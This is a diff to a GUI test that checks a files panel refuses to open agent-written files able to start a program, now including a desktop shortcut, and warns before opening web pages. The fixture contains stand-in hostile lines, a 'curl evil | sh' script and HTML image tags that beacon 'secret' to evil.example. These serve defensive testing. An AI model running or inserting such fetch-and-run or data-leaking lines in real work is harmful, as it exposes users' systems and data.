@@ -109,6 +109,7 @@ MADE = ("<execute>\nimport os\nopen('invoice', 'wb').write(b'MZ\\x90\\x00' + byt
         "open('notes', 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n"
         "os.makedirs('Report.app/Contents/MacOS')\nopen('Report.app/Contents/MacOS/Report', 'w').write('x')\n"
         "open('setup.deb', 'wb').write(b'!<arch>\\n')\n"
+        "open('shortcut', 'w').write('# made by code\\n[Desktop Entry]\\nExec=sh -c evil\\n')\n"
         "open('report.html', 'w').write('<img src=\"https://evil.example/?d=secret\">')\n"
         "open('summary.html.', 'w').write('\\n<!DOCTYPE html><img src=\"https://evil.example/\">')\n"
         "open('data.csv', 'w').write('x\\n1\\n')\n</execute>")
@@ -122,10 +123,10 @@ def test_open_judges_content_and_bundles_and_asks_before_a_page(qtbot, window, m
     send(qtbot, win, "write the files")
     wait_idle(qtbot, win)
     panel, asked, refused = win.files_panel, [], []
-    qtbot.waitUntil(lambda: panel.list.count() >= 7, timeout=10_000)
+    qtbot.waitUntil(lambda: panel.list.count() >= 8, timeout=10_000)
     monkeypatch.setattr(panel_module.QDesktopServices, "openUrl", lambda url: asked.append(url.toLocalFile()) or True)
     panel.open_refused.connect(refused.append)
-    for name in ("invoice", "notes", "setup.deb"):
+    for name in ("invoice", "notes", "setup.deb", "shortcut"):
         select(panel, name)
         panel.open_selected()
     monkeypatch.setattr(panel, "selected_relative", lambda: "Report.app")
@@ -133,7 +134,7 @@ def test_open_judges_content_and_bundles_and_asks_before_a_page(qtbot, window, m
     panel.open_selected()
     monkeypatch.undo()
     monkeypatch.setattr(panel_module.QDesktopServices, "openUrl", lambda url: asked.append(url.toLocalFile()) or True)
-    assert asked == [] and len(refused) == 4 and all("could start a program" in r for r in refused), refused
+    assert asked == [] and len(refused) == 5 and all("could start a program" in r for r in refused), refused
     select(panel, "summary.html.")  # no suffix: the desktop sniffs a page all the same
     panel.open_selected()
     assert asked == [] and shown(panel.notice) and "opens in your web browser" in panel.notice_label.text()
